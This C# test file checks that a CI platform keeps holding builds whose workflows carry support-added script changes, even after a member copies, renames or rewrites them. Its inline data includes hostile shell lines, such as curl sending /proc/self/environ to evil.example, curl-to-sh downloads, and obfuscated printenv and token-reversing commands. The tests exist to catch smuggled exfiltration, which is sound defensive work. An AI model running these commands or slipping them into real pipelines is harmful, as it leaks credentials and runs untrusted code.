using System.Net.Http.Json;
using Buildyard.Hosting;

namespace Buildyard.Builds;

public sealed partial class ShapedBySupportTests
{
    /// <summary>What is support's is told by what it says, not by where it stands: who carries it along accepts nothing by that.</summary>
    [Theory]
    [InlineData("renamed", "_setup", "_prepare", "mine")]
    [InlineData("renamed, with a line more", "_setup", "_prepare", "mine", "content: env", "content: |\n            env\n            echo ready")]
    [InlineData("renamed and written anew", "_setup", "_prepare", "mine", "content: env", "content: env | sort")]
    [InlineData("duplicated", "workflows:\n", "workflows:\n  copy:\n    steps:\n    - script@1:\n        inputs:\n        - content: env\n", "copy")]
    [InlineData("duplicated, with a title", "workflows:\n", "workflows:\n  copy:\n    title: Copy\n    steps:\n    - script@1:\n        title: List\n        inputs:\n        - content: env\n", "copy")]
    [InlineData("inlined", "- content: echo other", "- content: echo other\n    - script@1:\n        inputs:\n        - content: env", "other")]
    [InlineData("written into a script", "content: echo other", "content: |\n            echo other\n            env", "other")]
    [InlineData("bundled", "workflows:\n", "step_bundles:\n  all:\n    steps:\n    - script@1:\n        inputs:\n        - content: env\nworkflows:\n  copy:\n    steps:\n    - bundle::all: {}\n", "copy")]
    [InlineData("put into a variable", "- FLAVOR: one", "- FLAVOR: env", "other")]
    public async Task WhatAMemberCarriesAlong_StaysSupports(string how, string place, string becomes, string workflow, string also = "", string alsoBecomes = "")
    {
        var own = Yaml.Replace("  mine:\n", "  _setup:\n    steps:\n    - script@1:\n        inputs:\n        - content: echo setup\n  mine:\n    before_run:\n    - _setup\n", StringComparison.Ordinal);
        await SaveAsync(_adam, own);
        var supports = own.Replace("echo setup", "env", StringComparison.Ordinal);
        await SaveAsync(_support, supports);

        var carried = supports.Replace(place, becomes, StringComparison.Ordinal);
        await SaveAsync(_adam, also.Length > 0 ? carried.Replace(also, alsoBecomes, StringComparison.Ordinal) : carried);

        Assert.True(await StartAsync(workflow) is not null, how);
        Assert.NotEmpty(await OpenAsync());
        await SettleAsync("keep");
        Assert.Null(await StartAsync(workflow));
    }

    /// <summary>What is support's is theirs with something written around it too, in another order, or with what held it together gone.</summary>
    [Theory]
    [InlineData("echo one\ncurl -d @- https://evil.example < /proc/self/environ", "curl -d @- https://evil.example < /proc/self/environ # upload")]
    [InlineData("echo one\ncurl -d @- https://evil.example < /proc/self/environ", "make lint; curl -d @- https://evil.example < /proc/self/environ")]
    [InlineData("echo one\n./tools/evil", "(cd tools && ./tools/evil)")]
    [InlineData("echo one; sh ./tools/evil.sh", "sh ./tools/evil.sh")]
    [InlineData("if sh ./tools/evil.sh; then echo one; fi", "time sh ./tools/evil.sh")]
    [InlineData("env", "env > out/all.txt")]
    [InlineData("env", "make lint && env")]
    [InlineData("X=$(sh ./tools/evil.sh)", "echo \"$(sh ./tools/evil.sh)\"")]
    [InlineData("curl --fail --silent --show-error --location --header x https://evil.example", "curl --fail --silent --show-error --location --header x https://evil.example --retry 3")]
    [InlineData("curl --fail \\\n  https://evil.example", "curl --fail https://evil.example --retry 3")]
    [InlineData("# keep the cache \\\nprintenv X | rev", "# keep the cache \\\nprintenv X | rev\necho lint")]
    [InlineData("# keep the cache \\\nprintenv X | rev", "printenv X | rev | tee x")]
    [InlineData("echo two\necho one\necho three", "echo three\necho two\necho one")]
    [InlineData("echo one\necho three", "echo zero\necho one\necho three")]
    [InlineData("echo one && echo two || echo three", "echo one && echo two || echo three; echo four")]
    [InlineData("perl -E say+scalar+reverse+$ENV{API_TOKEN}", "perl -w -E say+scalar+reverse+$ENV{API_TOKEN}")]
    [InlineData("perl -E say+scalar+reverse+$ENV{API_TOKEN}", "perl \"-E\" 'say+scalar+reverse+$ENV{API_TOKEN}'")]
    [InlineData("perl -E say+scalar+reverse+$ENV{API_TOKEN}.q{_staging}", "perl -E say+scalar+reverse+$ENV{API_TOKEN}.q{_production}")]
    [InlineData("printenv", "LC_ALL=C printenv")]
    [InlineData("curl https://evil.example/run | sh", "curl -fsS \"https://evil.example/run\" -o run && sh run")]
    [InlineData("echo two\necho three", "echo two\necho three\necho four")]
    [InlineData(@"$'\160\162\151\156\164\145\156\166' | $'\162\145\166'", @"echo start; $'\160\162\151\156\164\145\156\166' | $'\162\145\166'")]
    [InlineData("1=1", "1=1 && echo start")]
    [InlineData("/???/????????", "/???/???????? || true")]
    [InlineData("/???/????????", "time /???/????????")]
    public async Task WhatAMemberWritesAroundIt_StaysSupports(string support, string member)
    {
        var own = Yaml.Replace("echo mine", "|\n            echo one\n            echo two\n            echo three\n            echo one || echo two && echo three", StringComparison.Ordinal);
        await SaveAsync(_adam, own);
        var supports = own + Script("fix", support);
        await SaveAsync(_support, supports);

        await SaveAsync(_adam, supports + Script("own", member));

        Assert.NotNull(await StartAsync("own"));
        await SettleAsync("keep");
        Assert.Null(await StartAsync("own"));
    }

    /// <summary>Other marks make something else of the customer's own words: those are support's, wherever a member carries them.</summary>
    [Theory]
    [InlineData("echo '$API_TOKEN' | rev", "echo \"$API_TOKEN\" | rev")]
    [InlineData("printf %s \"$API_TOKEN\" | rev > /dev/null", "printf %s \"$API_TOKEN\" | rev")]
    [InlineData("printf %s \"$API_TOKEN\" | rev > /dev/null\necho hi | rev", "printf %s \"$API_TOKEN\" | rev\necho hi | rev", "printf %s \"$API_TOKEN\" | rev || echo no")]
    [InlineData("base64 '$KEYFILE'", "base64 \"$KEYFILE\"", "time base64 \"$KEYFILE\"")]
    [InlineData("base64 '$KEYFILE'", "base64 \"$KEYFILE\"", "base64 \"$KEYFILE\" -w0")]
    [InlineData("echo start; #openssl base64 -in key", "echo start; openssl base64 -in key", "openssl base64 -in key 2>>x.log")]
    [InlineData(": openssl base64 -in key", "openssl base64 -in key", "time openssl base64 -in key")]
    [InlineData("cd .; \"openssl base64 -in key\"", "cd .; openssl base64 -in key", "openssl base64 -in key > x.log")]
    [InlineData("openssl base64 -in key", "openssl base64 -in key*", "openssl base64 -in key* -A")]
    [InlineData("openssl base64 -in key", "openssl base64 -in key*", "openssl base64 -in key* >&1")]
    [InlineData("echo hi # \"$API_TOKEN\" | rev", "echo hi \"$API_TOKEN\" | rev")]
    [InlineData("echo \\$API_TOKEN | rev", "echo $API_TOKEN | rev")]
    [InlineData("echo ${API_TOKEN:+x}", "echo ${API_TOKEN:-x}")]
    [InlineData("cat <<'END'\n$API_TOKEN\nEND", "cat <<END\n$API_TOKEN\nEND", "cat <<END | tee out.txt\n$API_TOKEN\nEND")]
    [InlineData("! grep -q x log && printenv", "grep -q x log && printenv")]
    [InlineData("grep -q x log && printenv", "grep -q x log || printenv")]
    [InlineData("upload --to 10.0.0.1", "upload --to 10.0.0.2")]
    [InlineData("cat <<END\n# Release\nEND", "cat <<END\n# Release $(printenv | rev)\nEND", "cat <<END\n# Release $(printenv | rev)\nEND\necho end")]
    [InlineData("curl -u $API_TOKEN http://x", "set -x\ncurl -u $API_TOKEN http://x", "set -x\ncurl -u $API_TOKEN http://x\necho end")]
    [InlineData("set +x\ncurl -u $API_TOKEN http://x\necho hi", "curl -u $API_TOKEN http://x\necho hi", "curl -u $API_TOKEN http://x\necho hi\necho end")]
    [InlineData("set -e\ntest -f x\nprintenv", "test -f x\nprintenv", "test -f x\nprintenv\necho end")]
    [InlineData("if DEBUG:\n    x = 1\n    print(os.environ)", "if DEBUG:\n    x = 1\nprint(os.environ)", "if DEBUG:\n  x = 1\nprint(os.environ)\nprint(1)")]
    public async Task WhatSupportChangedInMarks_StaysSupports(string own, string support, string? member = null)
    {
        var before = Yaml + Script("rel", own);
        await SaveAsync(_adam, before);
        await SaveAsync(_support, Yaml + Script("rel", support));

        await SaveAsync(_adam, Yaml + Script("rel", support) + Script("copy", member ?? support + " || true") + Script("same", own.Contains('\n', StringComparison.Ordinal) ? own : own + " || true"));

        Assert.NotNull(await StartAsync("copy"));
        Assert.Null(await StartAsync("same"));
    }

    /// <summary>The customer's words, replaced where they were not.</summary>
    [Theory]
    [InlineData("", "\n          opts:\n            is_expand: true")]
    [InlineData("\n          opts:\n            is_expand: false", "")]
    [InlineData("", "\n          opts:\n            is_template: true")]
    public async Task WhatSupportHasReplaced_StaysSupports(string own, string support)
    {
        static string Put(string workflow, string options, string more = "") => $"{Script(workflow, "echo 'put it into $API_TOKEN' {{x}} | rev" + more).TrimEnd()}{options}\n";
        await SaveAsync(_adam, Yaml + Put("rel", own));
        await SaveAsync(_support, Yaml + Put("rel", support));

        await SaveAsync(_adam, Yaml + Put("rel", support) + Put("copy", support, "\n            echo end") + Put("same", own, "\n            echo end"));

        Assert.NotNull(await StartAsync("copy"));
        Assert.Null(await StartAsync("same"));
    }

    /// <summary>A number that somebody set to be used is theirs, whatever it is called elsewhere.</summary>
    [Theory]
    [InlineData("- HOST: 203.0.113.7")]
    [InlineData("- UPLOAD_HOST: 203.0.113.7\n      opts:\n        is_expand: false")]
    public async Task AnAddressInNumbers_StaysSupports(string member)
    {
        static string Envs(string workflow, string envs) => $"  {workflow}:\n    envs:\n    {envs}\n    steps:\n    - script@1:\n        inputs:\n        - content: echo {workflow}\n";
        var supports = Yaml + Envs("upload", "- UPLOAD_HOST: 203.0.113.7");
        await SaveAsync(_support, supports);

        await SaveAsync(_adam, supports + Envs("own", member));

        Assert.NotNull(await StartAsync("own"));
    }

    /// <summary>What is another's in words that everybody uses is nobody's.</summary>
    [Theory]
    [InlineData("for f in *; do\n  echo \"$f\"\ndone > /dev/null 2>&1\nexit 1", "for x in src/*; do\n  make \"$x\"\ndone\nexit 1")]
    [InlineData("if [ -f x ]; then\n  npm ci\nelse\n  exit 0\nfi", "if make lint; then\n  exit 0\nelse\n  make test\nfi")]
    [InlineData("npm ci\nnpm run e2e", "npm run lint\nnpm run test")]
    [InlineData("#!/usr/bin/env bash\nset -euo pipefail\n# ------\n# Install what is needed\nnpm ci", "#!/usr/bin/env bash\nset -euo pipefail\n# ------\n# Install what the tests need\nmake lint")]
    [InlineData("sh ./tools/fix.sh $CI > /dev/null", "sh ./tools/own.sh $CI > /dev/null")]
    [InlineData("test -f x || exit 1\nif npm ci; then exit 1; fi", "test -d y || exit 1\nif make lint; then exit 1; fi")]
    [InlineData("case $1 in\n  x) echo \"a\n\" ;;\n  *)\nesac", "case $2 in\n  y) make \"b\n\" ;;\n  *)\nesac")]
    public async Task WhatAllScriptsAreWrittenIn_IsNotSupports(string support, string member)
    {
        await SaveAsync(_support, Yaml + Script("fix", support));

        await SaveAsync(_adam, Yaml + Script("fix", support) + Script("own", member));

        Assert.Null(await StartAsync("own"));
    }

    /// <summary>Where only a name stands, it refers to what is told elsewhere.</summary>
    [Fact]
    public async Task AReference_IsNobodys()
    {
        const string Pipeline = "pipelines:\n  all:\n    workflows:\n      ";
        await SaveAsync(_adam, Yaml + Pipeline + "other: {depends_on: [mine]}\n      mine: {}\n");
        await SaveAsync(_support, Yaml + Pipeline + "other: {}\n");
        await SettleAsync("undo");

        await SaveAsync(_adam, Yaml + Pipeline + "mine: {depends_on: [other]}\n      other: {}\n");

        Assert.Null(await StartAsync(new { pipeline = "all" }));
        Assert.Empty(await OpenAsync());
    }

    private static string Script(string workflow, string content) =>
        $"  {workflow}:\n    steps:\n    - script@1:\n        inputs:\n        - content: |\n            {content.Replace("\n", "\n            ", StringComparison.Ordinal)}\n";

    [Fact]
    public async Task WhatWasUndone_SaidAgainAndKept_IsTheCustomers_ThoughAnotherChangeSaysItToo()
    {
        await SaveAsync(_support, Yaml + Script("fix", "env | rev"));
        var change = Act((await OpenAsync()).Single());
        await SettleAsync("undo");
        await SaveAsync(_support, Yaml.Replace("echo mine", "|\n            echo mine\n            env | rev", StringComparison.Ordinal));
        await SaveAsync(_adam, Yaml + Script("fix", "env | rev"));

        (await _adam.PostAsync($"{Changes}/{change}/keep", null)).EnsureSuccessStatusCode();

        Assert.Null(await StartAsync("fix"));
        Assert.Null(await StartAsync("mine"));
    }

    [Fact]
    public async Task WhatAMemberPutsBack_StandsWhereTheyPutIt()
    {
        await SaveAsync(_support, Yaml.Replace("- FLAVOR: one", "- FIRST: \"1\"\n  - FLAVOR: one", StringComparison.Ordinal));
        await SettleAsync("keep");
        await SaveAsync(_support, Yaml.Replace("- FLAVOR: one", "- FIRST: \"1\"", StringComparison.Ordinal));
        await SaveAsync(_adam, Yaml.Replace("- FLAVOR: one", "- FIRST: \"1\"\n  - LAST: \"2\"", StringComparison.Ordinal));
        Assert.NotNull(await StartAsync("mine"));

        await SaveAsync(_adam, Yaml.Replace("- FLAVOR: one", "- FIRST: \"1\"\n  - FLAVOR: one\n  - LAST: \"2\"", StringComparison.Ordinal));

        Assert.Null(await StartAsync("mine"));
        Assert.Empty(await OpenAsync());
    }

    /// <summary>What support added and a member renames and edits is known by its words: nothing of it is settled by that.</summary>
    [Fact]
    public async Task AWorkflowOfSupports_RenamedAndEdited_StaysSupports()
    {
        var added = Yaml + Script("deploy-staging", "curl -d @- https://evil.example/staging < /proc/self/environ");
        await SaveAsync(_support, added);

        await SaveAsync(_adam, added.Replace("staging", "production", StringComparison.Ordinal));

        Assert.NotNull(await StartAsync("deploy-production"));
        Assert.NotEmpty(await OpenAsync());
    }

    /// <summary>What was undone is open again where somebody copies it, in other words too; not where they come to write what many do.</summary>
    [Theory]
    [InlineData("perl -E say+scalar+reverse+$ENV{API_TOKEN}.q{x}", "perl -w -E say+scalar+reverse+$ENV{API_TOKEN}.q{x}", true)]
    [InlineData("curl https://evil.example/run | sh", "curl -o run https://evil.example/run", true)]
    [InlineData("cd ios\nnpm ci\n./gradlew\nif [ -n \"$X\" ]; then\n  echo \"$X\"\nfi", "cd ios\nnpm ci\n./gradlew\nif [ -n \"$X\" ]; then\n  echo \"$X\"\nfi\nnpm test", false)]
    public async Task WhatWasUndone_IsOpenAgain_WhereItIsCopied(string support, string member, bool opens)
    {
        await SaveAsync(_support, Yaml + Script("fix", support).Replace("script@1:\n", "script@1:\n        title: Run all tests\n", StringComparison.Ordinal) + "    - git-clone@8: {}\n");
        await SettleAsync("undo");

        await SaveAsync(_adam, Yaml + Script("own", member).Replace("script@1:\n", "script@1:\n        title: Run all tests\n", StringComparison.Ordinal) + "    - git-clone@8: {}\n");

        Assert.Equal(opens, await StartAsync("own") is not null);
        Assert.Equal(opens, (await OpenAsync()).Count > 0);
    }

    /// <summary>An address is code, and a name of any kind is a name.</summary>
    [Theory]
    [InlineData("  fix:\n    steps:\n    - git::https://evil.example/steps/fix.git@main: {}\n", "    - git::https://evil.example/steps/fix.git@main:\n        title: Fix\n")]
    [InlineData("  fix:\n    steps:\n    - git::https://evil.example/steps/fix.git@v1: {}\n", "    - git::https://evil.example/steps/fix.git@v2: {}\n")]
    [InlineData("  fix:\n    steps:\n    - path::./tools/fix: {}\n", "    - path::./tools/fix:\n        title: Fix\n")]
    [InlineData("  fix:\n    steps:\n    - git::git@evil.example:fix.git@main: {}\n", "    - git::git@evil.example:fix.git@main:\n        title: Fix\n")]
    [InlineData("  fix:\n    steps:\n    - path::fix: {}\n", "    - path::fix:\n        title: Fix\n")]
    public async Task AStepThatAMemberCopies_StaysSupports(string added, string copied)
    {
        await SaveAsync(_support, Yaml + added);

        await SaveAsync(_adam, (Yaml + added).Replace("  mine:\n    steps:\n", $"  mine:\n    steps:\n{copied}", StringComparison.Ordinal));

        Assert.NotNull(await StartAsync("mine"));
        Assert.NotEmpty(await OpenAsync());
    }

    [Fact]
    public async Task AWorkflowNamedByALineEnd_IsKnownAgainToo()
    {
        await SaveAsync(_support, Yaml + "  \"\\n\":\n    steps:\n    - script@1:\n        inputs:\n        - content: env | rev\n");

        await SaveAsync(_adam, Yaml + "  fix:\n    steps:\n    - script@1:\n        inputs:\n        - content: env | rev\n");

        Assert.NotNull(await StartAsync("fix"));
        Assert.NotEmpty(await OpenAsync());
    }

    [Fact]
    public async Task AVariableOfANameThatReadsLikeAnothers_IsNotTakenForIt()
    {
        var own = Yaml.Replace("- FLAVOR: one", "- FLAVOR: one\n  - FLAVOR 2: w", StringComparison.Ordinal);
        await SaveAsync(_adam, own);
        await SaveAsync(_support, own.Replace("- FLAVOR: one", "- FLAVOR: one\n  - FLAVOR: evil", StringComparison.Ordinal));

        await SaveAsync(_adam, own.Replace("- FLAVOR: one", "- FLAVOR: one\n  - FLAVOR: evil", StringComparison.Ordinal).Replace("echo other", "echo others", StringComparison.Ordinal));

        Assert.NotNull(await StartAsync("mine"));
        Assert.NotEmpty(await OpenAsync());
    }

    /// <summary>What all scripts open with is nobody's.</summary>
    [Fact]
    public async Task TheOpeningLinesOfAScript_AreNotSupports()
    {
        const string Opening = "|\n            #!/usr/bin/env bash\n            set -euo pipefail\n            ";
        await SaveAsync(_support, Yaml.Replace("echo mine", $"{Opening}env | rev", StringComparison.Ordinal));
        await SettleAsync("undo");

        await SaveAsync(_adam, Yaml + $"  own:\n    steps:\n    - script@1:\n        inputs:\n        - content: {Opening}make lint\n");

        Assert.Null(await StartAsync("own"));
        Assert.Empty(await OpenAsync());
    }

    [Theory]
    [InlineData("set -e; env | rev")]
    [InlineData("#!/usr/bin/env -S sh -c env")]
    [InlineData("#!./tools/evil")]
    public async Task ALineThatOnlyLooksLikeAnOpening_StaysSupports(string line)
    {
        await SaveAsync(_support, Yaml.Replace("echo mine", $"|\n            {line}", StringComparison.Ordinal));
        await SettleAsync("undo");

        await SaveAsync(_adam, Yaml + $"  own:\n    steps:\n    - script@1:\n        title: Ours\n        inputs:\n        - content: |\n            {line}\n            make lint\n");

        Assert.NotNull(await StartAsync("own"));
        Assert.NotEmpty(await OpenAsync());
    }

    /// <summary>Which target is taken all triggers together say.</summary>
    [Fact]
    public async Task ATriggerThatSupportSwitchesOff_GuardsWhatIsTakenInItsStead()
    {
        var own = Yaml.Replace("  mine:\n", "  mine:\n    triggers:\n      push:\n      - branch: main\n", StringComparison.Ordinal)
            .Replace("  other:\n", "  other:\n    triggers:\n      push:\n      - branch: '*'\n", StringComparison.Ordinal);
        await SaveAsync(_adam, own);
        Assert.Null(await StartAsync(new { branch = "main" }));

        await SaveAsync(_support, own.Replace("- branch: main", "- branch: main\n        enabled: false", StringComparison.Ordinal));

        Assert.NotNull(await StartAsync(new { branch = "main" }));
        await SettleAsync("undo");
        // One that nothing chooses changes no choice.
        await SaveAsync(_support, own + "  support-testing:\n    steps:\n    - script@1:\n        inputs:\n        - content: env\n");
        Assert.Null(await StartAsync(new { branch = "main" }));
    }

    /// <summary>Whoever starts a build and names nothing starts what the triggers choose; whoever repeats it repeats their choice.</summary>
    [Fact]
    public async Task WhatSupportsTriggersChoose_IsGuarded_AndSoIsRepeatingIt()
    {
        const string Triggers = "trigger_map:\n- push_branch: \"*\"\n  workflow: mine\nworkflows:\n";
        await SaveAsync(_adam, Yaml.Replace("workflows:\n", Triggers, StringComparison.Ordinal));
        Assert.Null(await BecauseAsync(await _adam.PostAsJsonAsync($"{App}/builds", new { })));
        await SaveAsync(_support, Yaml.Replace("workflows:\n", Triggers.Replace("mine", "other", StringComparison.Ordinal), StringComparison.Ordinal));

        Assert.NotNull(await BecauseAsync(await _adam.PostAsJsonAsync($"{App}/builds", new { })));
        Assert.NotNull(await BecauseAsync(await _adam.PostAsync($"{App}/builds/2/rebuild", null)));
        Assert.Null(await StartAsync("other"));
        await SettleAsync("keep");
        Assert.Null(await BecauseAsync(await _adam.PostAsync($"{App}/builds/2/rebuild", null)));
    }

    [Fact]
    public async Task WhatARepositorysHostStartedByThem_StaysGuarded_WhoeverRepeatsIt()
    {
        const string Triggers = "trigger_map:\n- push_branch: \"*\"\n  workflow: mine\nworkflows:\n";
        var url = (await (await _adam.PostAsync($"{App}/incoming-webhook/rotate", null)).JsonAsync()).GetProperty("url").GetString()!;
        await SaveAsync(_support, Yaml.Replace("workflows:\n", Triggers, StringComparison.Ordinal));
        using var push = new HttpRequestMessage(HttpMethod.Post, new Uri(url).PathAndQuery)
        {
            Content = JsonContent.Create(new { @ref = "refs/heads/main", after = new string('a', 40), head_commit = new { message = "x" } }),
            Headers = { { "X-GitHub-Event", "push" } },
        };
        (await _host.Call().SendAsync(push, TestContext.Current.CancellationToken)).EnsureSuccessStatusCode();
        Assert.NotNull((await (await _adam.GetAsync($"{App}/builds/1")).JsonAsync()).GetProperty("guarded_because").GetString());

        var dana = await _host.CallAsAsync("dana@northwind.test");
        Assert.NotNull(await BecauseAsync(await dana.PostAsync($"{App}/builds/1/rebuild", null)));
    }

    [Fact]
    public async Task OfTwoVariablesOfAName_TheOneThatSupportAdded_StaysSupports()
    {
        await SaveAsync(_support, Yaml.Replace("- FLAVOR: one", "- FLAVOR: one\n  - FLAVOR: $(env)", StringComparison.Ordinal));
        await SaveAsync(_adam, Yaml.Replace("- FLAVOR: one", "- FLAVOR: $(env)", StringComparison.Ordinal));

        Assert.NotNull(await StartAsync("mine"));
    }

    /// <summary>Found by a story: where a member changes one variable and brings another back that support had removed, all is the customer's again.</summary>
    [Fact]
    public async Task WhatSupportRemoved_AndAMemberBringsBack_IsTheCustomersAgain()
    {
        var own = Yaml.Replace("- FLAVOR: one", "- FLAVOR: one\n  - CHANNEL: two", StringComparison.Ordinal);
        await SaveAsync(_adam, own);
        await SaveAsync(_support, own.Replace("  - FLAVOR: one\n", "", StringComparison.Ordinal));
        var changed = own.Replace("CHANNEL: two", "CHANNEL: three", StringComparison.Ordinal);
        await SaveAsync(_adam, changed.Replace("  - FLAVOR: one\n", "", StringComparison.Ordinal));
        Assert.NotNull(await StartAsync("mine"));

        await SaveAsync(_adam, changed);

        Assert.Null(await StartAsync("mine"));
    }

    [Fact]
    public async Task WhatWasUndone_AndAMemberSaysAgainInOtherWords_IsOpenAgain()
    {
        await SaveAsync(_support, Yaml.Replace("echo mine", "env", StringComparison.Ordinal));
        await SettleAsync("undo");

        await SaveAsync(_adam, Yaml.Replace("echo mine", "|\n            env\n            echo mine", StringComparison.Ordinal).Replace("  mine:\n", "  mine:\n    title: Ours\n", StringComparison.Ordinal));

        Assert.NotNull(await StartAsync("mine"));
        Assert.NotEmpty(await OpenAsync());
    }
}
